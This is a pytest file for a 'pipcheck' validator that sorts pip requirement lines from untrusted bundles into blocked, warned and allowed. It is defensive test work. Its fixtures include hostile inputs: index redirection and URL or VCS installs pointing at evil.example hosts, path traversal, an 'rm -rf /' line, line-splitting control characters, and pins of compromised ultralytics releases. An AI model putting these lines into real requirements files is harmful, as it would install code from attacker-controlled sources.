"""``pipcheck``: each pip requirement line of a stranger's bundle gets a verdict before anything
is installed (notes/security.md §2.4 and §8 cases 56 to 59): options, URLs, VCS, local paths and
compromised releases blocked; pins that would change the shared environment warned about;
plain requirements ok."""

from __future__ import annotations

import pytest

from git_comfy.core import pipcheck
from git_comfy.core.pipcheck import BLOCKED, OK, WARN

INDEX = "points pip at a package source"
FILES = "reads more requirements"
BUILD = "changes how pip picks or builds"
OTHER = "a pip option for the whole install"
VCS = "version-control checkout"
URL = "from an address the bundle chooses"
LOCAL = "local path or archive file"
UNPARSEABLE = "PEP 508"
BAD_RELEASE = "known-compromised"
ENV = "environment"
CONTROL = "control character or line break"

BLOCKED_LINES = [
    # every option, on its own line, spelled every way optparse reads it
    ("-i https://mirror.evil.example/simple", INDEX),
    ("-ihttps://mirror.evil.example/simple", INDEX),
    ("--index-url https://mirror.evil.example/simple", INDEX),
    ("--index-url=https://mirror.evil.example/simple", INDEX),
    ("--extra-index-url https://pypi.evil.example/simple", INDEX),
    ("--extra-index=https://pypi.evil.example/simple", INDEX),  # an unambiguous prefix
    ("--no-index", INDEX),
    ("-f https://evil.example/wheels/", INDEX),
    ("--find-links=./wheels", INDEX),
    ("--trusted-host mirror.evil.example", "TLS checks"),
    ("-e git+https://github.com/evil/pkg#egg=pkg", "editable"),
    ("--editable ./src", "editable"),
    ("-r https://evil.example/requirements.txt", FILES),
    ("-rhttps://evil.example/requirements.txt", FILES),
    ("-r other.txt", FILES),
    ("--requirement=base.txt", FILES),
    ("-c constraints.txt", FILES),
    ("--constraint https://evil.example/c.txt", FILES),
    ("--no-binary :all:", BUILD),
    ("--only-binary :all:", BUILD),
    ("--prefer-binary", BUILD),
    ("--config-settings editable_mode=compat", BUILD),
    ("--global-option=--no-user-cfg", BUILD),
    ("--install-option=--prefix=/tmp", BUILD),
    ("--build-option --cpp_ext", BUILD),
    ("--use-pep517", BUILD),
    ("--no-build-isolation", BUILD),
    ("--pre", "pre-releases"),
    ("--require-hashes", OTHER),
    ("--use-feature=fast-deps", OTHER),
    ("--no", OTHER),  # ambiguous: --no-index, --no-binary …
    ("-", OTHER),
    ("--hash=sha256:0123abcd", "--hash"),  # a hash pin needs a requirement
    # options after a requirement
    ("numpy -i https://mirror.evil.example/simple", INDEX),
    ("numpy>=1.24 --extra-index-url https://pypi.evil.example/simple", INDEX),
    ("numpy --global-option=build_ext", BUILD),
    ("numpy --config-settings=--build-option=--x", BUILD),
    ("numpy --hash=sha256:0123abcd -i https://evil.example/simple", INDEX),
    ("numpy --hash=md5:0123abcd", "--hash"),
    ("numpy --hash=sha256:not-hex", "--hash"),
    ("numpy --hash", "--hash"),
    ("numpy --hash=sha256:0123abcd stray", UNPARSEABLE),
    # VCS
    ("git+https://github.com/evil/pkg.git@v1.0#egg=pkg", VCS),
    ("GIT+https://github.com/evil/pkg", VCS),
    ("hg+https://hg.example/pkg", VCS),
    ("svn+svn://svn.example/pkg/trunk", VCS),
    ("bzr+lp:pkg", VCS),
    ("pkg @ git+https://github.com/evil/pkg", VCS),
    # URLs
    ("https://files.evil.example/pkg-1.0.tar.gz", URL),
    ("http://files.evil.example/pkg-1.0-py3-none-any.whl", URL),
    ("pkg @ https://files.evil.example/pkg-1.0-py3-none-any.whl", URL),
    ("pkg[extra]@https://files.evil.example/pkg.zip", URL),
    ("pkg @ https://files.evil.example/pkg.zip ; python_version >= '3.8'", URL),
    ("pkg@", URL),
    # local paths and archive files
    ("./vendor/pkg", LOCAL),
    ("../../..", LOCAL),
    (".", LOCAL),
    ("/opt/pkg", LOCAL),
    ("~/pkg", LOCAL),
    ("vendor/pkg", LOCAL),
    ("file:///tmp/pkg", LOCAL),
    ("file:../pkg", LOCAL),
    ("pkg @ file:///tmp/pkg-1.0-py3-none-any.whl", LOCAL),
    ("C:\\wheels\\pkg-1.0-py3-none-any.whl", LOCAL),
    ("C:/wheels/pkg", LOCAL),
    ("\\\\server\\share\\pkg.whl", LOCAL),
    ("pkg-1.0-py3-none-any.whl", LOCAL),
    ("pkg-1.0.tar.gz", LOCAL),
    ("PKG.ZIP", LOCAL),
    ("pkg-1.0.tar.xz", LOCAL),
    # pip fills ${VAR} in from the environment
    ("numpy==${NUMPY_VERSION}", ENV),
    ("numpy; python_version == '${PY}'", ENV),
    # a line pip would read as two, or that hides control characters
    ("numpy\n-i https://mirror.evil.example/simple", CONTROL),
    ("numpy # note\n--extra-index-url https://pypi.evil.example/simple", CONTROL),
    ("numpy\r", CONTROL),
    ("numpy\x00", CONTROL),
    ("numpy\x1b[2K", CONTROL),
    ("numpy\u2028-i https://mirror.evil.example/simple", CONTROL),
    # known-compromised releases, pinned
    ("ultralytics==8.3.41", BAD_RELEASE),
    ("ultralytics==8.3.42", BAD_RELEASE),
    ("ultralytics==8.3.45", BAD_RELEASE),
    ("ultralytics==8.3.46", BAD_RELEASE),
    ("ultralytics===8.3.41", BAD_RELEASE),
    ("Ultralytics == 8.3.41", BAD_RELEASE),
    ("ultralytics[export]==8.3.45 ; python_version >= '3.8'", BAD_RELEASE),
    ("ultralytics==8.3.41.0", BAD_RELEASE),  # PEP 440 pads with zeros: the same version
    ("ultralytics==v8.3.41", BAD_RELEASE),
    ("ultralytics (==8.3.46)", BAD_RELEASE),
    ("ultralytics>=8.0,==8.3.42", BAD_RELEASE),
    # no PEP 508 requirement
    ("numpy 1.0", UNPARSEABLE),
    ("numpy==", UNPARSEABLE),
    ("numpy=1.0", UNPARSEABLE),
    ("==1.0", UNPARSEABLE),
    ("numpy>=1.0,", UNPARSEABLE),
    ("numpy>=1.0 extra", UNPARSEABLE),
    ("numpy~=1", UNPARSEABLE),  # ~= needs two release segments
    ("numpy>=1.*", UNPARSEABLE),  # a wildcard only with == and !=
    ("numpy<1.0+cu118", UNPARSEABLE),  # a local label only with == and !=
    ("numpy==1.0abc", UNPARSEABLE),
    ("numpy==1.0.*.1", UNPARSEABLE),
    ("numpy (>=1.0", UNPARSEABLE),
    ("numpy[a b]", UNPARSEABLE),
    ("numpy[a,]", UNPARSEABLE),
    ("numpy;", UNPARSEABLE),
    ("numpy; os_name", UNPARSEABLE),
    ("numpy; os_name ==", UNPARSEABLE),
    ("numpy; shell == 'x'", UNPARSEABLE),  # no such marker variable
    ("numpy; os_name == nt", UNPARSEABLE),  # an unquoted string
    ("numpy; (os_name == 'nt'", UNPARSEABLE),
    ("numpy; os_name == 'nt')", UNPARSEABLE),
    ("numpy; os_name == 'nt' and", UNPARSEABLE),
    ("numpy; os_name == 'nt' sys_platform == 'linux'", UNPARSEABLE),
    ("n\u00fcmpy", UNPARSEABLE),
    ("numpy\u00a0>=1.0", UNPARSEABLE),
    ("-numpy-", OTHER),
    ("numpy.", UNPARSEABLE),
    ("@ pkg", UNPARSEABLE),
    ("rm -rf /", FILES),  # optparse reads "-rf" as "-r f"
    ("\u2014index-url", UNPARSEABLE),
]

WARN_LINES = [
    # the GPU stack with any constraint
    ("torch==2.1.0", "torch"),
    ("torch>=2.0", "torch"),
    ("Torch >= 2", "torch"),
    ("torchvision<0.20", "torchvision"),
    ("torchaudio~=2.1", "torchaudio"),
    ("xformers!=0.0.27", "xformers"),
    ("triton==3.0.0", "triton"),
    ("nvidia-cudnn-cu12==9.1.0.70", "nvidia-cudnn-cu12"),
    ("nvidia_cublas_cu12>=12.1", "nvidia-cublas-cu12"),
    ("torch[opt]==2.1.0; sys_platform == 'linux'", "torch"),
    # exact pins and caps on shared packages
    ("numpy==1.26.4", "Pins numpy"),
    ("numpy===1.26.4", "Pins numpy"),
    ("numpy==1.26.*", "Pins numpy"),
    ("numpy<2", "Caps numpy"),
    ("numpy<=1.26", "Caps numpy"),
    ("numpy~=1.26", "Caps numpy"),
    ("numpy>=1.24,<2", "Caps numpy"),
    ("numpy (>=1.24, <2)", "Caps numpy"),
    ("transformers==4.40.0", "Pins transformers"),
    ("diffusers==0.27.2", "Pins diffusers"),
    ("accelerate==0.29.0", "Pins accelerate"),
    ("opencv-python==4.9.0.80", "Pins opencv-python"),
    ("opencv-python-headless<4.10", "Caps opencv-python-headless"),
    ("opencv_contrib_python==4.9.0.80", "Pins opencv-contrib-python"),
    ("Pillow==10.0.0", "Pins pillow"),
    ("protobuf<4", "Caps protobuf"),
    ("huggingface_hub==0.23.0", "Pins huggingface-hub"),
    ("safetensors==0.4.2", "Pins safetensors"),
    ("tokenizers==0.15.2", "Pins tokenizers"),
    # a compromised release still allowed
    ("ultralytics", BAD_RELEASE),
    ("ultralytics[export]", BAD_RELEASE),
    ("ultralytics>=8.3.40", BAD_RELEASE),
    ("ultralytics>=8.3.46", BAD_RELEASE),
    ("ultralytics<=8.3.41", BAD_RELEASE),
    ("ultralytics<8.3.43", BAD_RELEASE),
    ("ultralytics>8.3.40,<8.3.42", BAD_RELEASE),
    ("ultralytics~=8.3.0", BAD_RELEASE),
    ("ultralytics~=8.3.42", BAD_RELEASE),
    ("ultralytics~=8.2", BAD_RELEASE),  # >=8.2, ==8.*
    ("ultralytics==8.3.*", BAD_RELEASE),
    ("ultralytics==8.3.41.*", BAD_RELEASE),
    ("ultralytics!=8.3.41", BAD_RELEASE),
    ("ultralytics<=8.3.41.post1", BAD_RELEASE),
    ("ultralytics>=8.3.41.dev0,<8.3.42", BAD_RELEASE),
    ("ultralytics>=8.3.42,<8.3.45", BAD_RELEASE),
]

OK_LINES = [
    "numpy", "torch", "torchvision", "xformers", "nvidia-cudnn-cu12", "ultralytics>=8.3.47",
    "numpy>=1.24", "numpy>1.0", "numpy!=1.26.0", "transformers>=4.38", "opencv_python_headless",
    "requests", "requests[socks]>=2.31", "requests [socks] >= 2.31 , < 3", "requests[]",
    "Pillow_SIMD", "foo~=1.2", "foo~=1.2.3", "foo==1.0", "foo===1.0-weird", "foo==1.0+cu118",
    "foo (>=1.0)", "foo(>=1.0,<2)", "foo>=1.0; python_version >= '3.10'",
    'foo; sys_platform == "win32"', "foo;platform_machine in 'x86_64 aarch64'",
    "foo; python_version not in '3.8, 3.9'",
    "foo; (os_name == 'nt' or sys_platform == 'darwin') and python_full_version >= '3.11.1'",
    "foo; 'linux' == sys_platform", "foo; extra == 'gpu'", "foo; os.name == 'posix'",
    "torch; sys_platform != 'darwin'", "foo[bar,baz]", "foo[ bar , baz ]>=1",
    "foo >=1.0  # a comment", "foo\t>=1.0", "  foo  ", "foo --hash=sha256:0123abcd",
    "foo==1.0 --hash=sha256:0123ABCD --hash sha512:abcdef", "foo; os_name == 'nt' --hash=sha384:ab",
    "ultralytics==8.3.40", "ultralytics<8.3.41", "ultralytics>8.3.46", "ultralytics~=8.2.0",
    "ultralytics~=8.3.47", "ultralytics!=8.3.41,!=8.3.42,!=8.3.45,!=8.3.46",
    "ultralytics===8.3.41.0", "ultralytics==1!8.3.41", "ultralytics!=8.3.*",
    "ultralytics>=8.3.41rc1,<8.3.41", "ultralytics>8.3.41.post1,<8.3.42",
    "ultralytics>=8.3.43,<8.3.45", "ultralytics==8.3.41+local",
    "foo>=1.0.post1", "foo>=1.0rc1", "foo>=1!2.0", "foo>=1.0.dev3", "foo>=1.0-1", "foo>=1.0a",
    "foo<=2.0.0b1.post2.dev3", "foo==1.0.*", "foo>=1.0_beta_2", "foo.bar", "foo1.0", "a", "1",
    "", "# a comment", "   # a comment \\",
]


@pytest.mark.parametrize(("line", "why"), BLOCKED_LINES)
def test_blocked(line: str, why: str) -> None:
    verdict = pipcheck.check(line)
    assert (verdict.verdict, verdict.line) == (BLOCKED, line)
    assert verdict.reason is not None and why in verdict.reason, verdict.reason


@pytest.mark.parametrize(("line", "why"), WARN_LINES)
def test_warned(line: str, why: str) -> None:
    verdict = pipcheck.check(line)
    assert verdict.verdict == WARN
    assert verdict.reason is not None and why in verdict.reason, verdict.reason


@pytest.mark.parametrize("line", OK_LINES)
def test_ok(line: str) -> None:
    verdict = pipcheck.check(line)
    assert (verdict.verdict, verdict.reason, verdict.line) == (OK, None, line)


@pytest.mark.parametrize("line", [line for line, _ in BLOCKED_LINES + WARN_LINES])
def test_a_reason_is_one_short_line(line: str) -> None:
    reason = pipcheck.check(line).reason
    assert reason is not None
    assert reason == reason.strip() and reason[0].isupper() and reason.endswith(".")
    assert reason.isprintable() and len(reason) <= 120, reason
    assert ". " not in reason and "\n" not in reason


@pytest.mark.parametrize(("line", "name", "specifier"), [
    ("ultralytics==8.3.41", "ultralytics", "==8.3.41"),
    ("numpy >= 1.24", "numpy", ">=1.24"),
    ("numpy (>=1.0 , <2)", "numpy", ">=1.0,<2"),
    ("Pillow_SIMD[x]~=9.0; python_version < '3.12'", "pillow-simd", "~=9.0"),
    ("huggingface_hub", "huggingface-hub", ""),
    ("Foo.__Bar--baz", "foo-bar-baz", ""),
    ("foo===any.thing", "foo", "===any.thing"),
    ("pkg @ https://files.evil.example/pkg.whl", "pkg", ""),  # blocked, but names a project
    ("numpy -i https://mirror.evil.example/simple", "numpy", ""),
    ("-i https://mirror.evil.example/simple", None, ""),
    ("./vendor/pkg", None, ""),
    ("pkg-1.0-py3-none-any.whl", None, ""),
    ("git+https://github.com/evil/pkg#egg=pkg", None, ""),
    ("numpy 1.0", None, ""),
    ("# a comment", None, ""),
])
def test_name_and_specifier(line: str, name: str | None, specifier: str) -> None:
    verdict = pipcheck.check(line)
    assert (verdict.name, verdict.specifier) == (name, specifier)


def test_normalise_name() -> None:
    assert pipcheck.normalise_name("Pillow") == "pillow"
    assert pipcheck.normalise_name("opencv_python.Headless") == "opencv-python-headless"
    assert pipcheck.normalise_name("a-_.b") == "a-b"


def test_check_all_gives_a_verdict_per_line() -> None:
    lines = ["numpy", "torch==2.1.0", "-i https://mirror.evil.example/simple", "ultralytics"]
    assert [v.verdict for v in pipcheck.check_all(lines)] == [OK, WARN, BLOCKED, WARN]
    assert [v.line for v in pipcheck.check_all(lines)] == lines
    assert pipcheck.check_all([]) == []


def test_check_all_joins_continued_lines_as_pip_does() -> None:
    hashed = pipcheck.check_all(["torch==2.1.0 \\", "    --hash=sha256:0123abcd", "numpy"])
    assert [(v.line, v.verdict) for v in hashed] == [
        ("torch==2.1.0     --hash=sha256:0123abcd", WARN), ("numpy", OK)]
    split = pipcheck.check_all(["numpy \\", "-i https://mirror.evil.example/simple"])
    assert [v.verdict for v in split] == [BLOCKED]
    assert split[0].reason is not None and INDEX in split[0].reason
    url = pipcheck.check_all(["pkg \\", "@ https://files.evil.example/pkg.whl"])
    assert [v.verdict for v in url] == [BLOCKED]
    # a comment runs on into the continued line: pip reads only "numpy"
    swallowed = pipcheck.check_all(["numpy # note \\", "-i https://mirror.evil.example/simple"])
    assert [(v.verdict, v.name) for v in swallowed] == [(OK, "numpy")]
    # a comment line is never continued; a backslash on the last line is dropped
    assert [v.line for v in pipcheck.check_all(["# note \\", "numpy", "torch \\"])] == [
        "# note \\", "numpy", "torch "]


def test_the_reference_hostile_requirements_file() -> None:
    """The shape of notes/security.md §2.4's hostile_requirements.txt: every line that could
    install from elsewhere is blocked, every environment pin shown."""
    lines = [
        "-i https://mirror.evil.example/simple",
        "--extra-index-url https://pypi.evil.example/simple",
        "--trusted-host mirror.evil.example",
        "-f https://evil.example/wheels/",
        "-e git+https://github.com/evil/pkg#egg=pkg",
        "git+https://github.com/evil/pkg@main#egg=pkg",
        "pkg @ https://files.evil.example/pkg-1.0.tar.gz",
        "http://files.evil.example/pkg-1.0.tar.gz",
        "./vendor/pkg",
        "../../..",
        "-r https://evil.example/more.txt",
        "-c https://evil.example/constraints.txt",
        "--config-settings --build-option=--x",
        "--global-option=build_ext",
        "ultralytics==8.3.41",
        "--no-binary :all:",
        "torch==2.1.0",
        "numpy<2",
        "requests>=2.31",
        "pillow",
    ]
    verdicts = [v.verdict for v in pipcheck.check_all(lines)]
    assert verdicts == [BLOCKED] * 16 + [WARN, WARN, OK, OK]
